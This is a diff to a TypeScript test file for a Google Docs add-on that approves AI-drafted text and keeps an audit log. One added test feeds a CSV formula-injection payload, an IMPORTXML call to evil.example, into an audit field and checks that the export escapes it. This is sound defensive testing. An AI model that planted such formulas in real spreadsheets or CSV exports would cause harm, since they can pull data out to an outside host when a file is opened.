@@ -2,6 +2,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { parseCsv } from '../../shared/src/csv';
+import { readStoredJson, writeStoredJson } from '../../apps-script/src/server/stored-json';
 import { draftFromBrief } from '../../docs-addon/src/server/draft';
 import { approveMark, auditLog, readMarks } from '../../docs-addon/src/server/marks';
 import type { FakeParagraph } from '../../preview/src/apps-script/fake-document';
@@ -74,6 +75,15 @@ describe('approving AI text', () => {
     expect(rows.value[2]![3]).toBe('email-subject');
   });
 
+  it('writes audit cells that look like formulas as text', () => {
+    const { env, marks } = drafted();
+    const { approved } = approveMark(marks[0]!.id);
+    writeStoredJson(env.properties.document as never, 'onbrand.audit', [{ ...approved!, approvedBy: '=IMPORTXML("http://evil.example","//a")', label: '@cmd' }]);
+    const rows = parseCsv(auditLog().csv);
+    if (!rows.ok) throw new Error('the audit CSV is not CSV');
+    expect(rows.value[1]!.slice(1, 3)).toEqual(['\'=IMPORTXML("http://evil.example","//a")', "'@cmd"]);
+  });
+
   it('refuses to approve what is not waiting, changing nothing', () => {
     const { env } = drafted();
     const before = JSON.stringify(env.document.snapshot());
@@ -109,5 +119,47 @@ describe('approving with error-level findings open', () => {
     const result = approveMark(subject.id);
     expect(result.open).toEqual([]);
     expect(result.approved?.openErrors).toBeUndefined();
+  });
+});
+
+describe('the audit log past its cap', () => {
+  const pastEntry = (i: number) => ({
+    markId: `old-${i}`,
+    label: `Piece ${i}`,
+    approvedBy: 'omar@example.com',
+    approvedAt: new Date(Date.UTC(2026, 0, 1, 0, i)).toISOString(),
+    template: 'content-pack',
+    templateVersion: '1.0.0',
+    provider: 'offline',
+    model: 'onbrand-offline-1',
+    channel: null,
+    score: 90,
+    findings: [{ rule: 'banned', severity: 'warn', match: 'synergy', message: `Avoid “synergy” (entry ${i}).`.repeat(4) }],
+  });
+
+  it('moves the oldest entries into the document, says so, and keeps every entry in the CSV', () => {
+    const { env, marks } = drafted();
+    const past = Array.from({ length: 400 }, (_, i) => pastEntry(i));
+    writeStoredJson(env.properties.document as never, 'onbrand.audit', past);
+    const result = approveMark(marks.find((m) => m.label === 'Email')!.id);
+    expect(result.message).toMatch(/^Approved “Email”\. The \d+ oldest audit entries moved to the “Onbrand audit log” section at the end of the document; the CSV still has them all\.$/);
+    const stored = readStoredJson(env.properties.document as never, 'onbrand.audit') as unknown[];
+    expect(JSON.stringify(stored).length).toBeLessThanOrEqual(64 * 1024);
+    expect(stored.at(-1)).toEqual(result.approved);
+    const texts = env.document.body.snapshotParagraphs().map((p) => p.snapshotText());
+    expect(texts).toContain('Onbrand audit log');
+    const labels = () => {
+      const csv = parseCsv(auditLog().csv);
+      if (!csv.ok) throw new Error('the audit CSV does not parse');
+      return csv.value.slice(1).map((row) => row[2]);
+    };
+    expect(labels()).toEqual([...past.map((entry) => entry.label), 'Email']);
+
+    // Again, past the cap a second time: the newer batch goes below the first, in order.
+    const more = Array.from({ length: 400 }, (_, i) => pastEntry(1000 + i));
+    writeStoredJson(env.properties.document as never, 'onbrand.audit', [...(readStoredJson(env.properties.document as never, 'onbrand.audit') as unknown[]), ...more]);
+    approveMark(marks.find((m) => m.label === 'Article')!.id);
+    expect(labels()).toEqual([...past.map((entry) => entry.label), 'Email', ...more.map((entry) => entry.label), 'Article']);
+    expect(env.document.body.children.filter((child) => child.type === 'TABLE')).toHaveLength(2);
   });
 });
